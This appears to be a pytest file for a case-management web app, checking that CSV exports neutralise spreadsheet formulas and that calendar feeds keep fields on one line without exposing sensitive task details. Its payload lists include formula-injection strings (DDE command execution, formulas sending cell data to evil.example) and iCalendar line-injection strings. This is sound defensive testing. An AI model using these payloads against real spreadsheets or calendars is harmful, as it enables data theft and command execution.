"""Lists and calendars as files: what the page shows and no more, and text stays text in spreadsheet and calendar."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from icalendar import Calendar

from app import db
from app.cases.export.sheets import cell
from app.cases.tables import case as case_table
from app.cases.tables import task
from app.identity.tables import person
from app.web import calendars
from tests.web.safety.expected import EMPLOYER, OFFICE
from tests.web.safety.markup import PAYLOADS
from tests.web.safety.script import CLERK, COLLEAGUE, NAMED, REFERRER, SUBJECT, UNNAMED
from tests.web.safety.site import PEOPLE, Site
from tests.web.safety.story import CANARY, Case
from tests.web.safety.test_traces import names_of_the_gp_step

At = Callable[[str], Case]
#: what a spreadsheet might take for a formula, and what might break out of a cell or a calendar's line
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '=HYPERLINK("http://evil.example?x="&A1,"x")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "=WEBSERVICE('http://evil.example')",
    "=DDE('cmd';'/C calc';'x')",
    '"=1+1',
    '",=1+1,"',
    '";=1+1;"',
    "'=1+1",
    "%0A=1+1",
    "=1+1\r\nBEGIN:VEVENT",
)
LINES = (
    "x\r\nBEGIN:VALARM\r\nACTION:PROCEDURE",
    "x\nATTACH:http://evil.example",
    "x\rDESCRIPTION:y",
    "x\u2028ORGANIZER:mailto:x@evil.example",
    "x\u0085SUMMARY:y",
    "x\x0bEND:VEVENT",
    "x\x00END:VCALENDAR",
    "x\\nEND:VEVENT",
    "x;VALUE=URI:http://evil.example",
    "x,y;z\\",
    "x:y",
    '";ALTREP="cid:x',
    "x" * 500,
    "é" * 200,
    "🙂" * 100,
    "END:VCALENDAR\r\nBEGIN:VCALENDAR",
    "\r\n ATTENDEE:mailto:x@evil.example",
    "x\\;y\\,z",
)


def table(site: Site, name: str, url: str) -> list[list[str]]:
    answer = site.get(name, url)
    assert answer.status_code == 200
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"].startswith("attachment; filename=")
    assert answer.headers["Cache-Control"] == "no-store"
    assert answer.data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(answer.data.decode("utf-8-sig"), newline=""), strict=True))


def calendar(site: Site, name: str, url: str) -> Any:
    answer = site.get(name, url)
    assert answer.status_code == 200, url
    assert answer.headers["Content-Type"].startswith("text/calendar")
    assert answer.headers["Content-Disposition"].startswith("attachment; filename=")
    assert answer.headers["Cache-Control"] == "no-store"
    # RFC 5545, 3.1: lines of at most 75 octets, each ended by CR LF, and no other CR or LF
    lines = answer.data.split(b"\r\n")
    assert max(map(len, lines)) <= 75
    assert not any(b"\r" in one or b"\n" in one for one in lines)
    return Calendar.from_ical(answer.data)


def events(found: Any) -> list[Any]:
    return list(found.walk("VEVENT"))


def test_the_list_of_cases_is_the_page_as_a_table(at: At) -> None:
    case = at("read")
    row = case.site.world.row(case.id)
    for name in PEOPLE:
        shown = re.findall(r'class="wm-row__name" href="/cases/', case.site.get(name, "/cases").text)
        head, *rows = table(case.site, name, "/cases.csv")
        assert head == ["Reference", "Employee", "Process", "Status", "Since"]
        assert len(rows) == len(shown), name
        for one in rows:
            assert one == [row.reference, "Grace Obi", "Referral to report", "Ended", "2026-11-02 10:00"]
    assert len(table(case.site, SUBJECT, "/cases.csv")) == 2
    assert len(table(case.site, SUBJECT, "/cases.csv?going=yes")) == 1


def test_the_inbox_is_the_page_as_a_table(at: At) -> None:
    site = at("informed").site
    head, row = table(site, CLERK, "/inbox.csv?scope=groups")
    assert head == ["Task", "Employee", "Process", "Reference", "Due", "Done", "Note"]
    assert row[:2] == ["Triage the referral", "Grace Obi"]
    assert re.fullmatch(r"2026-11-\d\d 17:00", row[4])
    assert table(site, CLERK, "/inbox.csv") == [head]
    assert len(table(site, CLERK, "/inbox.csv?scope=groups&q=nobody")) == 1
    done = table(site, REFERRER, "/inbox.csv?scope=done")
    assert [one[4:6] for one in done[1:]] == [["", one[5]] for one in done[1:]]
    assert len(done) == 2


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_is_never_a_formula(text: str) -> None:
    shown = cell(text)
    assert not shown.lstrip(" \u00a0").startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"))
    assert shown in {text, f"'{text}"}
    assert cell("R-2026-0007") == "R-2026-0007"
    assert cell("Grace Obi") == "Grace Obi"


def test_names_make_no_formula_and_no_second_cell(at: At) -> None:
    case = at("informed")
    for text in (*FORMULAS, *LINES, "\n".join(PAYLOADS)):
        if "\x00" in text:
            continue
        with db.transaction(case.site.w.engine) as connection:
            connection.execute(person.update().values(name=text))
            connection.execute(case_table.update().values(process_name=text))
            connection.execute(task.update().values(name=text))
        for url, cells in (("/cases.csv", (1, 2)), ("/inbox.csv?scope=groups", (0, 1, 2))):
            head, row = table(case.site, CLERK, url)
            assert len(row) == len(head)
            assert [row[number] for number in cells] == [cell(text)] * len(cells)


def test_control_a_cell_as_it_is_would_be_a_formula(at: At, monkeypatch: pytest.MonkeyPatch) -> None:
    case = at("informed")
    monkeypatch.setattr("app.cases.export.sheets.cell", str)
    with db.transaction(case.site.w.engine) as connection:
        connection.execute(person.update().values(name="=1+1"))
    assert table(case.site, CLERK, "/cases.csv")[1][1] == "=1+1"


@pytest.mark.rule("XX-1", "breaks")
@pytest.mark.parametrize("step", ["consent", "booked", "gp-consent", "gp-asked", "corrected"])
def test_a_calendar_says_that_something_is_due_and_not_what(at: At, step: str) -> None:
    """A step can tell, and a calendar lies open: neither its name, nor the process, nor whom it is about."""
    case = at(step)
    names = {one.name for one in case.site.tasks(case.id)} | {"Grace", "Referral", "report", "consent"}
    names |= names_of_the_gp_step()
    told = 0
    for name in PEOPLE:
        text = case.site.get(name, "/inbox.ics").text.replace("\r\n ", "")
        assert [one for one in names if one in text] == [], name
        assert not CANARY.search(text)
        for event in events(calendar(case.site, name, "/inbox.ics")):
            assert event["summary"] == f"Task due: {case.site.world.row(case.id).reference}"
            assert set(event.keys()) == {"UID", "DTSTAMP", "DTSTART", "SUMMARY", "URL", "CLASS", "TRANSP"}
            told += 1
    assert told == len(
        [one for one in case.site.tasks(case.id) if one.state == "open" and one.assignee_id and one.due_at]
    )


def test_a_deadline_keeps_its_name_and_stands_at_its_time(at: At) -> None:
    case = at("start")
    (row,) = [one for one in case.site.tasks(case.id) if one.state == "open"]
    (first,) = events(calendar(case.site, SUBJECT, "/inbox.ics"))
    case.site.pass_time(timedelta(hours=3))
    (second,) = events(calendar(case.site, SUBJECT, "/inbox.ics"))
    assert first["uid"] == second["uid"] == f"task-{row.id}@127.0.0.1"
    assert first["dtstart"].dt == second["dtstart"].dt == row.due_at
    assert second["dtstamp"].dt - first["dtstamp"].dt == timedelta(hours=3)
    assert first["url"] == f"http://127.0.0.1:8000/tasks/{row.id}"


@pytest.mark.rule("XX-A4", "follows")
def test_an_appointment_is_for_those_who_may_know_when_and_where(at: At) -> None:
    for step, status, sequence in (
        ("offered", "TENTATIVE", 0),
        ("offered-again", "TENTATIVE", 1),
        ("booked", "CONFIRMED", 1),
    ):
        case = at(step)
        url = f"/cases/{case.id}/appointment.ics"
        for name in PEOPLE:
            answer = case.site.get(name, url)
            assert (answer.status_code == 200) == (name in {SUBJECT, NAMED, *OFFICE}), (step, name)
        (event,) = events(calendar(case.site, SUBJECT, url))
        assert (event["summary"], event["status"], event["sequence"]) == ("Appointment", status, sequence)
        assert event["dtstart"].dt == datetime(2026, 11, 6, 10, 30, tzinfo=UTC)
        assert CANARY.fullmatch(event["location"])
        assert set(event.keys()) - {"UID", "DTSTAMP", "URL", "CLASS"} == {
            "SUMMARY",
            "DTSTART",
            "STATUS",
            "SEQUENCE",
            "LOCATION",
        }
        assert event["uid"] == f"appointment-{case.id}@127.0.0.1"
        linked = {
            name for name in (SUBJECT, NAMED, REFERRER, CLERK) if url in case.site.get(name, f"/cases/{case.id}").text
        }
        assert linked == ({SUBJECT, NAMED, CLERK} if step != "offered-again" else set())


@pytest.mark.parametrize("step", ["start", "triaged", "moved", "moved-late", "withdrawn", "read"])
def test_where_none_is_offered_there_is_no_appointment(at: At, step: str) -> None:
    case = at(step)
    for name in (SUBJECT, CLERK, NAMED, REFERRER, COLLEAGUE, UNNAMED):
        assert case.site.get(name, f"/cases/{case.id}/appointment.ics").status_code == 404, name
    assert "appointment.ics" not in case.site.get(SUBJECT, f"/cases/{case.id}").text


@pytest.mark.parametrize("text", [*LINES, *FORMULAS[:3], "\n".join(PAYLOADS[:20])], ids=range(len(LINES) + 4))
def test_a_place_is_one_line_of_text(at: At, text: str) -> None:
    case = at("triaged")
    offer = {"appointment_kind": "in_person", "appointment_at": "2026-11-06T10:30", "place": f"Room 1 {text}"}
    url = f"/api/v1/tasks/{case.site.open_task(case.id, 'offer_appointment').id}/complete"
    answer = case.site.send(CLERK, "POST", url, json={"version": 1, "answers": offer})
    if answer.status_code == 422:
        assert "place" in answer.get_json(force=True)["errors"]
        return
    found = calendar(case.site, CLERK, f"/cases/{case.id}/appointment.ics")
    (event,) = events(found)
    assert event["location"].startswith("Room 1 ")
    assert len(found.subcomponents) == 1
    assert len(event.subcomponents) == 0
    assert not {"ATTACH", "ATTENDEE", "ORGANIZER", "DESCRIPTION"} & set(event.keys())
    assert event["summary"] == "Appointment"


def test_a_reference_is_one_line_of_text_too(at: At) -> None:
    case = at("start")
    for text in LINES:
        with db.transaction(case.site.w.engine) as connection:
            connection.execute(case_table.update().values(reference=text[:20]))
        (event,) = events(calendar(case.site, SUBJECT, "/inbox.ics"))
        assert event.subcomponents == []
        assert event["summary"].startswith("Task due: ")


def test_control_a_calendar_that_named_the_task_would_be_seen(at: At, monkeypatch: pytest.MonkeyPatch) -> None:
    case = at("gp-asked")
    text = case.site.get(SUBJECT, "/inbox.ics").text
    assert "Task due" in text
    made = calendars.entry
    monkeypatch.setattr(calendars, "entry", lambda name, _summary, *more: made(name, "See the GP report", *more))
    assert case.site.get(SUBJECT, "/inbox.ics").text != text
    assert "GP report" in case.site.get(SUBJECT, "/inbox.ics").text


def test_nothing_of_the_employers_side_opens_a_place(at: At) -> None:
    case = at("booked")
    for name in EMPLOYER:
        text = "".join(case.site.get(name, url).text for url in ("/inbox.ics", "/inbox.csv", "/cases.csv"))
        assert not CANARY.search(text)
